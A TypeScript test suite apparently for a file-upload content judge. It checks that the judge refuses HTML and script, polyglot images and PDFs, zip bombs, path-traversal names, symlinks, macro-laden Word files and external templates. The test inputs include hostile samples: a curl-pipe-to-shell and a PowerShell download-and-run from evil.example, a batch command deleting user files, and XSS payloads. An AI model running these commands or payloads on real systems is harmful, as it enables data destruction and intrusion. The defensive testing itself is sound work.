import { randomBytes } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { ARCHIVE_LIMITS } from './archive-inspect.ts';
import { judgeContent, type Judgement } from './content-judge.ts';
import { FILE_KINDS, type FileKind } from './file-kinds.ts';
import * as corpus from './upload-corpus.ts';

const ALL = Object.keys(FILE_KINDS) as FileKind[];
const judge = (bytes: Buffer, allowed: readonly FileKind[] = ALL) => judgeContent(bytes, allowed);
const refusal = (j: Judgement) => (j.ok ? `accepted as ${j.kind}` : j.refusal);

describe('judgeContent: the kind comes from the content alone', () => {
  it.each<[FileKind, () => Buffer]>([
    ['pdf', corpus.pdf],
    ['jpeg', corpus.jpeg],
    ['png', corpus.png],
    ['gif', corpus.gif],
    ['bmp', corpus.bmp],
    ['msword', () => corpus.compoundFile(['WordDocument', '1Table'])],
    ['rtf', () => Buffer.from('{\\rtf1\\ansi Orders issued 2026-01-15\\par}')],
    [
      'text',
      () =>
        Buffer.from(
          'Orders issued 2026-01-15\r\nUnit: 3rd\tBattalion — été\nCost < 5 and 7 > 3; write to <jordan@mail.example>\n',
        ),
    ],
    ['text', () => Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('Orders with a byte-order mark\n')])],
    ['docx', corpus.docx],
    [
      'zip',
      () =>
        corpus.zip([
          { name: 'orders.pdf', content: corpus.pdf() },
          { name: 'page-2.png', content: corpus.png() },
        ]),
    ],
    [
      'zip',
      () =>
        corpus.zip([
          { name: 'scans/', content: Buffer.alloc(0) },
          { name: 'scans/orders.pdf', content: corpus.pdf() },
        ]),
    ],
    ['zip', () => corpus.zip([corpus.deflated('orders.txt', Buffer.from('Report on 2026-03-01.\n'.repeat(400)))])],
    ['zip', () => corpus.zip([{ name: 'orders.docx', content: corpus.docx() }])],
  ])('%s, with its own media type and extension', async (kind, bytes) => {
    const judged = await judge(bytes());
    expect(judged).toEqual({ ok: true, kind, ...pick(FILE_KINDS[kind]) });
  });

  it('a PDF is a PDF whatever it would be called, and a PNG is a PNG where only PDFs are allowed', async () => {
    // the judge is never told a name or a declared type: the same bytes give the same answer
    expect(await judge(corpus.pdf(), ['text'])).toMatchObject({ ok: false, refusal: 'notAllowed' });
    expect(await judge(corpus.png(), ['pdf'])).toMatchObject({
      ok: false,
      refusal: 'notAllowed',
      detail: 'png is not allowed here',
    });
    expect(await judge(corpus.png(), ['pdf', 'png'])).toMatchObject({ ok: true, kind: 'png', extension: 'png' });
  });
});

describe('judgeContent: text that is markup or script is not plain text', () => {
  const longPlain = 'Orders issued 2026-01-15. Report to the unit.\n'.repeat(3000); // ≈ 140 KB
  it.each<[string, string, string]>([
    ['an HTML page', '<!DOCTYPE html><html><body><h1>Orders</h1></body></html>', 'markup'],
    ['HTML without a doctype', 'Orders\n<p onclick="x()">see attached</p>\n', 'markup'],
    ['a script tag in mixed case', 'Orders for the unit\n<ScRiPt>alert(document.domain)</ScRiPt>', 'markup'],
    ['an end tag alone', 'Orders </title> text', 'markup'],
    ['an SVG image', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>', 'markup'],
    ['an XML document', '<?xml version="1.0"?>\n<orders><unit>3rd</unit></orders>', 'markup'],
    ['an HTML comment', 'Orders <!-- hidden --> text', 'markup'],
    ['markup after 140 KB of plain text', `${longPlain}<iframe src="https://evil.example/">`, 'markup'],
    ['a byte-order mark then HTML', '\ufeff<html><script>x()</script></html>', 'markup'],
    ['a batch file', '@echo off\r\ndel /q /s C:\\Users\\*\r\n', 'script'],
    ['a batch file in capitals after a line', 'rem orders\r\n@ECHO OFF\r\nstart evil.exe\r\n', 'script'],
    ['a shell script', '#!/bin/sh\ncurl https://evil.example | sh\n', 'script'],
    ['PowerShell', 'IEX (New-Object Net.WebClient).DownloadString("https://evil.example/x")', 'script'],
    ['a Windows script host file', 'Set shell = CreateObject("WScript.Shell")\nshell.Run "calc"', 'script'],
    ['a script address', 'Open javascript:alert(1) to read the orders', 'script'],
    ['a registry file', 'Windows Registry Editor Version 5.00\r\n[HKEY_CURRENT_USER\\Software]\r\n', 'script'],
  ])('%s is refused (%s)', async (_name, text, expected) => {
    expect(refusal(await judge(Buffer.from(text, 'utf8')))).toBe(expected);
  });

  it.each<[string, Buffer]>([
    ['HTML in UTF-16', Buffer.from('\ufeff<html><script>x()</script></html>', 'utf16le')],
    ['invalid UTF-8', Buffer.from([0x68, 0x69, 0xc3, 0x28])],
    ['text with a control character', Buffer.from('Orders\u0007 bell')],
    ['white space only', Buffer.from(' \r\n\t ')],
  ])('%s is not text', async (_name, bytes) => {
    expect(refusal(await judge(bytes))).toBe('unrecognised');
  });
});

describe('judgeContent: polyglots, truncated signatures and other kinds', () => {
  it('a file with an image or PDF signature must be that kind through and through, and is never text', async () => {
    // a script behind a GIF's header: not a GIF's blocks, and not text either
    const gifScript = Buffer.concat([corpus.gif().subarray(0, 13), Buffer.from('/*<script>alert(1)</script>*/;')]);
    expect(refusal(await judge(gifScript))).toBe('unrecognised');
    expect(refusal(await judge(gifScript, ['text', 'pdf']))).toBe('unrecognised');
    // a page written into a PDF's own text
    const pdfHtml = Buffer.from('%PDF-1.7\n<html><script>alert(1)</script></html>\n%%EOF\n');
    expect(await judge(pdfHtml)).toMatchObject({ ok: false, refusal: 'activeContent' });
    // the metadata real PDFs carry is XML, and stays accepted
    const xmp = Buffer.from(
      '%PDF-1.7\n1 0 obj << /Type /Metadata >> endobj\n<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"></x:xmpmeta>\ntrailer << /Root 1 0 R >>\n%%EOF\n',
    );
    expect(await judge(xmp)).toMatchObject({ ok: true, kind: 'pdf' });
    // the same GIF, PNG and PDF as they are, accepted
    for (const [kind, bytes] of [
      ['gif', corpus.gif],
      ['png', corpus.png],
      ['pdf', corpus.pdf],
    ] as const)
      expect(await judge(bytes())).toMatchObject({ ok: true, kind });
  });

  it('a PDF, PNG or GIF carries nothing after its end but padding; a JPEG may (phones append a video)', async () => {
    const html = Buffer.from('<html><script>alert(1)</script></html>');
    for (const [name, bytes] of [
      ['PDF', Buffer.concat([corpus.pdf(), html])],
      ['PNG', Buffer.concat([corpus.png(), html])],
      ['GIF', Buffer.concat([corpus.gif(), html])],
      ['PDF with a second, unfinished part', Buffer.concat([corpus.pdf(), Buffer.from('1 0 obj << >> endobj\n')])],
      // a payload that ends with the kind's own end marker is still found
      ['PNG, the payload ending "IEND"', Buffer.concat([corpus.png(), html, Buffer.from('IEND\0\0\0\0')])],
      ['GIF, the payload ending ";"', Buffer.concat([corpus.gif(), html, Buffer.from(';')])],
    ] as const) {
      expect(refusal(await judge(bytes)), name).toBe('unrecognised');
    }
    const padding = Buffer.from('\r\n\0\0 \t');
    for (const [kind, bytes] of [
      ['pdf', corpus.pdf],
      ['png', corpus.png],
      ['gif', corpus.gif],
    ] as const) {
      expect(await judge(Buffer.concat([bytes(), padding]))).toMatchObject({ ok: true, kind });
    }
    const motionPhoto = Buffer.concat([corpus.jpeg(), Buffer.from('\0\0\0\x18ftypmp42'), Buffer.alloc(64, 7)]);
    expect(await judge(motionPhoto)).toMatchObject({ ok: true, kind: 'jpeg' });
  });

  it('HTML with a PDF or zip signature further in is still markup, or not text at all', async () => {
    expect(refusal(await judge(Buffer.from('<html>\n%PDF-1.7\n</html>')))).toBe('markup');
    const textThenZip = Buffer.concat([
      Buffer.from('Orders\n'),
      corpus.zip([{ name: 'a.pdf', content: corpus.pdf() }]),
    ]);
    expect(refusal(await judge(textThenZip))).toBe('unrecognised');
  });

  it.each<[string, Buffer, string]>([
    ['empty', Buffer.alloc(0), 'empty'],
    ['a PNG signature alone', corpus.png().subarray(0, 8), 'unrecognised'],
    ['a PNG cut inside its header', corpus.png().subarray(0, 20), 'unrecognised'],
    ['a PDF cut short (no %%EOF)', corpus.pdf().subarray(0, 40), 'unrecognised'],
    ['a JPEG marker alone', Buffer.from([0xff, 0xd8]), 'unrecognised'],
    ['a GIF signature alone', Buffer.from('GIF89a'), 'unrecognised'],
    ['a GIF cut short', corpus.gif().subarray(0, 20), 'unrecognised'],
    ['a JPEG without its end', corpus.jpeg().subarray(0, 30), 'unrecognised'],
    ['a zip signature alone', Buffer.from([0x50, 0x4b, 0x03, 0x04]), 'archive'],
    ['a zip cut in half', corpus.docx().subarray(0, 200), 'archive'],
    ['"BM" text with a wrong size', Buffer.from('BM is a plain note\u0001', 'latin1'), 'unrecognised'],
    ['an executable', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200, 0x90)]), 'unrecognised'],
    ['a compound file that is a workbook', corpus.compoundFile(['Workbook', 'SummaryInformation']), 'unrecognised'],
    ['a Word 97 document with macros', corpus.compoundFile(['WordDocument', 'Macros']), 'activeContent'],
    [
      'rich text with an embedded object',
      Buffer.from('{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}'),
      'activeContent',
    ],
  ])('%s is refused (%s)', async (_name, bytes, expected) => {
    expect(refusal(await judge(bytes))).toBe(expected);
  });
});

describe('judgeContent: zip archives and Word documents are inspected before they are accepted', () => {
  const archiveProblem = async (bytes: Buffer, allowed: readonly FileKind[] = ALL) => {
    const judged = await judge(bytes, allowed);
    expect(judged.ok, JSON.stringify(judged)).toBe(false);
    return judged.ok ? null : [judged.refusal, judged.archiveProblem];
  };

  it('a zip that really unpacks to 1 GiB is refused on its directory, without inflating it', async () => {
    const bomb = corpus.zip([corpus.gibibyteOfZeros('orders.pdf')]);
    expect(bomb.length).toBeLessThan(1_100_000);
    const started = performance.now();
    expect(await archiveProblem(bomb)).toEqual(['archive', 'tooLarge']);
    expect(performance.now() - started).toBeLessThan(500);
  });

  it('a zip that claims small sizes for the 1 GiB is refused as soon as an entry unpacks past its claim', async () => {
    const lying = corpus.gibibyteOfZeros('orders.pdf', { uncompressedSize: 900_000 });
    const before = process.memoryUsage().rss;
    expect(await archiveProblem(corpus.zip([lying]))).toEqual(['archive', 'tooLarge']);
    expect(process.memoryUsage().rss - before).toBeLessThan(100 * 1024 * 1024);
  });

  it('refuses a bomb by ratio, one by entry count, and one by the declared total', async () => {
    const zeros = corpus.deflated('orders.txt', Buffer.alloc(20_000_000, 0x41));
    expect(await archiveProblem(corpus.zip([zeros]))).toEqual(['archive', 'ratio']);
    const many = Array.from({ length: ARCHIVE_LIMITS.maxEntries + 1 }, (_, i) => ({
      name: `p${i}.txt`,
      content: Buffer.from(`page ${i}\n`),
    }));
    expect(await archiveProblem(corpus.zip(many))).toEqual(['archive', 'tooManyEntries']);
    // each entry within the ratio, the six together over the total
    const wide = Array.from({ length: 6 }, (_, i) =>
      corpus.deflated(`scan-${i}.txt`, randomBytes(100_000), { uncompressedSize: 9_000_000 }),
    );
    expect(await archiveProblem(corpus.zip(wide))).toEqual(['archive', 'tooLarge']);
  });

  it('refuses lying sizes that would pass every declared limit, and a wrong CRC', async () => {
    // text that packs about 2:1, so no declared ratio gives the lie away
    const text = Buffer.from(randomBytes(40_000).toString('hex'));
    const shorter = corpus.deflated('orders.txt', text, { uncompressedSize: 1000 });
    expect(await archiveProblem(corpus.zip([shorter]))).toEqual(['archive', 'tooLarge']);
    const longer = corpus.deflated('orders.txt', text, { uncompressedSize: text.length + 10 });
    expect(await archiveProblem(corpus.zip([longer]))).toEqual(['archive', 'corrupt']);
    const crc = corpus.deflated('orders.txt', text, { crc32: 12345 });
    expect(await archiveProblem(corpus.zip([crc]))).toEqual(['archive', 'corrupt']);
  });

  it('refuses an encrypted entry, a name that climbs out, a symbolic link', async () => {
    const encrypted = corpus.withCentralFlags(corpus.zip([corpus.deflated('orders.pdf', corpus.pdf())]), 0x0001);
    expect(await archiveProblem(encrypted)).toEqual(['archive', 'encrypted']);
    // yauzl refuses some of these names itself as it reads the directory (corrupt); the inspection refuses the rest
    for (const name of [
      '../orders.pdf',
      '/etc/orders.pdf',
      'C:/orders.pdf',
      'a\\..\\orders.pdf',
      'scans/../../orders.pdf',
    ])
      expect(await archiveProblem(corpus.zip([{ name, content: corpus.pdf() }])), name).toEqual([
        'archive',
        expect.stringMatching(/^(unsafeName|corrupt)$/),
      ]);
    const link = corpus.withExternalAttributes(
      corpus.zip([{ name: 'orders.txt', content: Buffer.from('/etc/passwd') }]),
      0o120777 << 16,
    );
    expect(await archiveProblem(link)).toEqual(['archive', 'link']);
  });

  it('judges each entry of a zip as a file of its own: no markup, script, executable or archive inside', async () => {
    const inside = (name: string, content: Buffer) =>
      archiveProblem(
        corpus.zip([
          { name: 'orders.pdf', content: corpus.pdf() },
          { name, content },
        ]),
      );
    expect(await inside('orders.txt', Buffer.from('<html><script>x()</script></html>'))).toEqual([
      'archive',
      'content',
    ]);
    expect(await inside('orders.svg', Buffer.from('<svg onload="x()"/>'))).toEqual(['archive', 'content']);
    expect(await inside('run.bat', Buffer.from('@echo off\r\nstart x.exe\r\n'))).toEqual(['archive', 'content']);
    expect(await inside('setup.exe', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(100)]))).toEqual([
      'archive',
      'content',
    ]);
    expect(await inside('more.zip', corpus.zip([{ name: 'a.pdf', content: corpus.pdf() }]))).toEqual([
      'archive',
      'content',
    ]);
    // a route that allows zips but not images refuses an image inside one
    expect(await archiveProblem(corpus.zip([{ name: 'p.png', content: corpus.png() }]), ['zip', 'pdf'])).toEqual([
      'archive',
      'content',
    ]);
  });

  it('refuses a Word document with macros, an outside template, a document type declaration, or a ratio bomb', async () => {
    expect(await archiveProblem(corpus.docx([{ name: 'word/vbaProject.bin', content: Buffer.from('vba') }]))).toEqual([
      'archive',
      'activeContent',
    ]);
    expect(
      await archiveProblem(corpus.docx([{ name: 'word/embeddings/oleObject1.bin', content: Buffer.from('ole') }])),
    ).toEqual(['archive', 'activeContent']);
    const template =
      '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>';
    expect(
      await archiveProblem(corpus.docx([{ name: 'word/_rels/settings.xml.rels', content: Buffer.from(template) }])),
    ).toEqual(['archive', 'externalReference']);
    const link =
      '<Relationships><Relationship Id="r2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://army.example/" TargetMode="External"/></Relationships>';
    expect(
      await judge(corpus.docx([{ name: 'word/_rels/document.xml.rels', content: Buffer.from(link) }])),
    ).toMatchObject({ ok: true, kind: 'docx' });
    expect(
      await archiveProblem(
        corpus.docx([{ name: 'word/styles.xml', content: Buffer.from('<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>') }]),
      ),
    ).toEqual(['archive', 'doctype']);
    // the same DOCTYPE in UTF-16 has a NUL byte after each character: not a part Word writes, refused whatever it says
    const utf16 = Buffer.from('\ufeff<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>', 'utf16le');
    expect(await archiveProblem(corpus.docx([{ name: 'word/styles.xml', content: utf16 }]))).toEqual([
      'archive',
      'corrupt',
    ]);
    expect(
      await archiveProblem(corpus.docx([corpus.deflated('word/media/big.xml', Buffer.alloc(20_000_000, 0x20))])),
    ).toEqual(['archive', 'ratio']);
  });

  it('a macro-enabled Word document is a zip of parts, none of them a document: refused', async () => {
    const docm = corpus.docx([], 'application/vnd.ms-word.document.macroEnabled.main+xml');
    expect(await archiveProblem(docm)).toEqual(['archive', 'content']);
  });

  it('a Word document inside a zip is inspected as one', async () => {
    const bad = corpus.docx([{ name: 'word/vbaProject.bin', content: Buffer.from('vba') }]);
    expect(await archiveProblem(corpus.zip([{ name: 'orders.docx', content: bad }]))).toEqual(['archive', 'content']);
  });
});

function pick(k: { mediaType: string; extension: string }) {
  return { mediaType: k.mediaType, extension: k.extension };
}
